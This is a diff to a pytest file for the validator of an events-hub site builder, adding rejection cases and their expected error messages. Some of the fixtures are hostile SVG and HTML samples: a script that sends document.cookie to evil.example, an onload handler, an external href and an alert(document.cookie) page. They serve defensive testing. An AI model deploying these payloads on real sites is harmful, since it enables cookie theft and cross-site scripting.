@@ -5,6 +5,7 @@ Each case starts from the valid hub in conftest.py, changes one file, and assert
 
 import pytest
 
+from conftest import PIPE, Link
 from conftest import SITE_TOML as SITE
 
 E = "---\ntitle: Teen Tech Drop-In\nstart: 2026-12-02 15:30\nend: 17:30\nlocation: central\n{}---\nBody.\n"
@@ -106,6 +107,53 @@ CASES = {
     "site_toml_age_band_missing_for_an_audience": {
         "site.toml": SITE + AGE_BANDS.replace('teens = "12-18"\n', "")
     },
+    "file_is_a_symbolic_link": {"events/linked.md": Link("../../outside/event.md")},
+    "folder_is_a_symbolic_link": {"media/shared": Link("../../outside")},
+    "file_is_a_named_pipe": {"events/pipe.md": PIPE},
+    "file_name_too_long": {f"events/{'a' * 252}.md": E.format("")},
+    # the description (the body)
+    "body_control_character": raw(
+        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\nFirst line.\nPress \x1b[1mEnter\n"
+    ),
+    "body_nested_too_deep": raw(
+        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\n" + "- " * 600 + "\n"
+    ),
+    "body_too_many_brackets": raw(
+        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\nIntro.\n\n" + "[" * 10_000 + "\n"
+    ),
+    "body_too_many_angle_brackets": raw(
+        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\n" + "<a " * 600 + "\n"
+    ),
+    "body_too_long": raw(
+        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\n" + "Words. " * 3000 + "\n"
+    ),
+    "body_direction_override": raw(
+        "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\nPay at \u202eelbat eht\u202c.\n"
+    ),
+    "text_direction_override": ev("cost: \u202e5$\u202c\n"),
+    # media that would run as code on the hub's address
+    "svg_with_a_script": {
+        "media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<rect width="9"/>\n'
+        "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n</svg>\n"
+    },
+    "svg_with_an_event_handler": {
+        "media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'
+    },
+    "svg_loading_from_another_site": {
+        "media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n'
+        '<use href="https://evil.example/sprite.svg#a"/>\n</svg>\n'
+    },
+    "svg_with_entities": {
+        "media/flyer.svg": '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaa">]>\n'
+        '<svg xmlns="http://www.w3.org/2000/svg">&a;</svg>\n'
+    },
+    "svg_not_well_formed": {"media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<g>\n'},
+    "web_page_in_media": {"media/flyer.html": "<script>alert(document.cookie)</script>\n"},
+    "no_break_space_after_a_key": raw(
+        "---\ntitle:\u00a0Teen Tech Drop-In\nstart: 2026-12-02 15:30\nlocation: central\n---\n"
+    ),
+    "events_folder_in_capitals": {"events/teen-tech.md": None, "Events/teen-tech.md": E.format("")},
+    "registration_mailto_without_an_address": ev('registration: "mailto:"\n'),
     # keys
     "unknown_key_with_suggestion": ev("strat: 2026-12-02\n"),
     "unknown_key": ev("colour: blue\n"),
@@ -283,6 +331,10 @@ CASES = {
             'en = "English"', 'en = "English"\n"American Sign Language" = "ASL"'
         )
     },
+    "site_toml_horizon_too_far": {
+        "site.toml": SITE.replace("[audiences]", "horizon_months = 100000\n\n[audiences]")
+    },
+    "site_toml_vocabulary_key_too_long": {"site.toml": SITE.replace("kids = ", "k" * 300 + " = ")},
     "site_toml_accent_not_a_colour": {
         "site.toml": SITE.replace("[audiences]", 'accent_color = "navy"\n\n[audiences]')
     },
@@ -790,6 +842,72 @@ EXPECTED = {
     ],
     "registration_required_without_a_way_to_register": [
         "content/events/teen-tech.md:6: warning: registration is required but there is no 'registration' link or 'contact' to register with",
+    ],
+    "file_is_a_symbolic_link": [
+        "content/events/linked.md: is a symbolic link; content must be real files in the repository",
+    ],
+    "folder_is_a_symbolic_link": [
+        "content/media/shared: is a symbolic link; content must be real files in the repository",
+    ],
+    "file_is_a_named_pipe": [
+        "content/events/pipe.md: is a named pipe, not a file; content must be ordinary files: delete it",
+    ],
+    "file_name_too_long": [
+        f"content/events/{'a' * 252}.md: the file name is 252 characters long before '.md'; a name may have at most 251, because the site makes files named after it ('aaaaaaaaaaaaaaaaaaaa….ics'): shorten it",
+    ],
+    "body_control_character": [
+        "content/events/teen-tech.md:7: the description contains an invisible control character (U+001B) on this line; retype the line",
+    ],
+    "body_nested_too_deep": [
+        "content/events/teen-tech.md:6: lists and quotes in the description are nested 600 deep on this line; keep it to 20 (content never needs more, and the page could not be made)",
+    ],
+    "body_too_many_brackets": [
+        "content/events/teen-tech.md:8: the paragraph of the description that starts on this line has more than 50 '[' characters; a link or picture needs one each, and more would take minutes to make into a page: remove the extra ones",
+    ],
+    "body_too_many_angle_brackets": [
+        "content/events/teen-tech.md:6: the paragraph of the description that starts on this line has more than 500 '<' characters, which would take minutes to make into a page: write fewer, or use words such as 'under' and 'less than'",
+    ],
+    "body_too_long": [
+        "content/events/teen-tech.md:6: the description is 21,001 characters long; keep it to 20,000 or fewer (link to a longer text elsewhere)",
+    ],
+    "body_direction_override": [
+        "content/events/teen-tech.md:6: warning: the description contains an invisible text-direction control (U+202E), which can make the text show in a different order from how it reads; retype it unless you put it there on purpose",
+    ],
+    "text_direction_override": [
+        "content/events/teen-tech.md:6: warning: 'cost' contains an invisible text-direction control (U+202E), which can make the text show in a different order from how it reads; retype it unless you put it there on purpose",
+    ],
+    "site_toml_horizon_too_far": [
+        "content/site.toml:5: 'horizon_months' must be at most 60, not '100000'",
+    ],
+    "site_toml_vocabulary_key_too_long": [
+        "content/site.toml:6: [audiences] key 'kkkkkkkkkkkkkkkkkkkk…' is 300 characters long; a key may have at most 251, because the site makes files named after it: shorten it",
+    ],
+    "svg_with_a_script": [
+        "content/media/flyer.svg:3: the picture contains <script>, which SVG pictures on the hub may not have (it could run code, or load something from another site); save the picture again as plain SVG without it, or as a PNG",
+    ],
+    "svg_with_an_event_handler": [
+        "content/media/flyer.svg:1: the picture's <svg> has the attribute 'onload', which SVG pictures on the hub may not have (it could run code); save the picture again as plain SVG without it, or as a PNG",
+    ],
+    "svg_loading_from_another_site": [
+        'content/media/flyer.svg:2: the picture\'s <use> has href="https://evil.example/sprite.svg#a", which points outside the picture (the hub loads nothing from other sites); save the picture again as plain SVG without it, or as a PNG',
+    ],
+    "svg_with_entities": [
+        "content/media/flyer.svg:2: the picture declares a DOCTYPE or entities, which SVG pictures on the hub may not have (they can make a file expand without end); save the picture again as plain SVG without it, or as a PNG",
+    ],
+    "svg_not_well_formed": [
+        "content/media/flyer.svg:3: the picture is not a readable SVG file (no element found); save it again from the drawing program",
+    ],
+    "web_page_in_media": [
+        "content/media/flyer.html: is a web page or script (.html), which would run on the hub's address; media/ is for pictures and documents: link to the page instead, or save it as a PDF",
+    ],
+    "no_break_space_after_a_key": [
+        "content/events/teen-tech.md:2: there is a no-break space after 'title:', which YAML does not count as a space (it comes with text pasted from a word processor or a web page); replace it with an ordinary space",
+    ],
+    "events_folder_in_capitals": [
+        "content/Events: Bulletin reads content/events/, not content/Events/, so nothing in this folder would be published: rename the folder to 'events' (lowercase)",
+    ],
+    "registration_mailto_without_an_address": [
+        "content/events/teen-tech.md:6: 'registration' must be mailto: and an email address, such as mailto:teens@example.org, not 'mailto:'",
     ],
     "folder_not_read": [
         "content/event: warning: is not something Bulletin reads, so it is not published; did you mean 'events'? content/ holds site.toml and the folders events/, partners/, venues/ and media/",
